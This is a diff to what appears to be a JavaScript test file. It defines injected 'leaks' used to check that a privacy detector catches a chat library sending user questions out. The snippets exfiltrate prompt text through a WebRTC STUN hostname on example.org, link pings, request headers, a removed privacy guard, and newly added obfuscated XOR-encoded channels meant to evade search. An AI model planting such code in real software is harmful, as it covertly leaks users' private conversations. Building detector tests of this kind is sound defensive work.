@@ -42,6 +42,8 @@ const onQuestion = (code) => (build) => build.edit("sprat/sprat.js", CALL, `${CA
 /** The same in the worker, where `ask` is the whole call as JSON. */
 const inWorker = (code) => (build) => build.edit("sprat/worker.js", ANSWER, `{ ${code} }\n${ANSWER}`);
 
+/** No search knows this one. */
+const CIPHER = "const secret = Array.from(text, (c) => (c.codePointAt(0) ^ 0x15).toString(36)).reverse().join('-');";
 const BASE64 = "const base64 = btoa(String.fromCharCode(...new TextEncoder().encode(text)));";
 
 /** Byte-level BPE in few lines, as a careless page might ship it for its statistics. */
@@ -85,7 +87,8 @@ export const LEAKS = {
   },
   "WebRTC, by the name of a server": {
     build: onQuestion(`
-      const name = Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("").match(/.{1,60}/g).join(".");
+      const hex = Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("");
+      const name = hex.match(/.{1,60}/g).join(".");
       const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + name + ".example.org" }] });
       peer.createDataChannel("x");
       peer.createOffer().then((offer) => peer.setLocalDescription(offer));`),
@@ -99,7 +102,12 @@ export const LEAKS = {
     where: /GET \/icon\.svg, address/,
   },
   "a ping of a link": {
-    build: onQuestion(`const link = document.createElement("a"); link.href = "#"; link.ping = "/ping?" + encodeURIComponent(text); document.body.append(link); link.click();`),
+    build: onQuestion(`
+      const link = document.createElement("a");
+      link.href = "#";
+      link.ping = "/ping?" + encodeURIComponent(text);
+      document.body.append(link);
+      link.click();`),
     where: /POST \/ping, address/,
   },
   "an event source": {
@@ -107,7 +115,11 @@ export const LEAKS = {
     where: /GET \/v1\/events, address/,
   },
   "a header of an XMLHttpRequest": {
-    build: onQuestion(`${BASE64} const request = new XMLHttpRequest(); request.open("GET", "/icon.svg"); request.setRequestHeader("x-cache-key", base64); request.send();`),
+    build: onQuestion(`${BASE64}
+      const request = new XMLHttpRequest();
+      request.open("GET", "/icon.svg");
+      request.setRequestHeader("x-cache-key", base64);
+      request.send();`),
     where: /GET \/icon\.svg, x-cache-key/,
   },
   "eight characters in each request": {
@@ -138,7 +150,8 @@ export const LEAKS = {
     where: /^host$/,
   },
   "a guard taken away": {
-    build: (build) => build.edit("sprat/sprat.js", "write({ messages, options: rest })", `write({ messages, options: { ...rest, private: false, mode: "cloud" } })`),
+    build: (build) =>
+      build.edit("sprat/sprat.js", "options: rest })", `options: { ...rest, private: false, mode: "cloud" } })`),
     alone: true,
     where: /POST \/v1\/chat\/completions, body/,
   },
@@ -147,9 +160,20 @@ export const LEAKS = {
       build.edit(
         "sprat/sprat.js",
         "if (error instanceof SpratError && !error.partial) error.partial = text;",
-        `fetch("/v1/chat/completions", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ model: "sprat-small", messages }) });`,
+        `const headers = { "content-type": "application/json" };
+        fetch("/v1/chat/completions", { method: "POST", headers, body: JSON.stringify({ model: "sprat-small", messages }) });`,
       ),
     where: /POST \/v1\/chat\/completions, body/,
+  },
+  "the answer, told afterwards": {
+    build: (build) =>
+      build.edit(
+        "sprat/sprat.js",
+        "yield event;",
+        `if (event.type === "end") fetch("/v1/quality", { method: "POST", body: JSON.stringify({ answer: event.text }) });
+        yield event;`,
+      ),
+    where: /POST \/v1\/quality, body/,
   },
   "a word on the console": { build: onQuestion("console.debug('asked', text);"), where: /console\.debug in page/ },
   "local storage": { build: onQuestion(`localStorage.setItem("last", text);`), where: /localStorage/ },
@@ -171,7 +195,20 @@ export const LEAKS = {
   "the page's title": { build: onQuestion("document.title = text.slice(0, 60);"), where: /title in page/ },
   "the page's address": { build: onQuestion("history.replaceState(null, '', '#' + encodeURIComponent(text));"), where: /history in page/ },
   "the receipt": {
-    build: (build) => build.edit("sprat/sprat.js", "yield event;", `if (event.type === "end") event.receipt.reason = messages.at(-1).content; yield event;`),
+    build: (build) =>
+      build.edit("sprat/sprat.js", "yield event;", `if (event.receipt) event.receipt.reason = messages.at(-1).content; yield event;`),
     where: /a receipt or an error/,
+  },
+};
+
+/** Leaks in an encoding of their own: the search finds nothing, but the request is not an ordinary one. */
+export const CIPHERS = {
+  "in the header of an ordinary file": {
+    build: onQuestion(`${CIPHER} fetch("/icon.svg", { headers: { accept: secret } });`),
+    odd: /^GET \/icon\.svg with accept: /,
+  },
+  "in a body": {
+    build: onQuestion(`${CIPHER} fetch("/v1/chat/completions", { method: "POST", body: secret });`),
+    odd: /^POST \/v1\/chat\/completions with /,
   },
 };
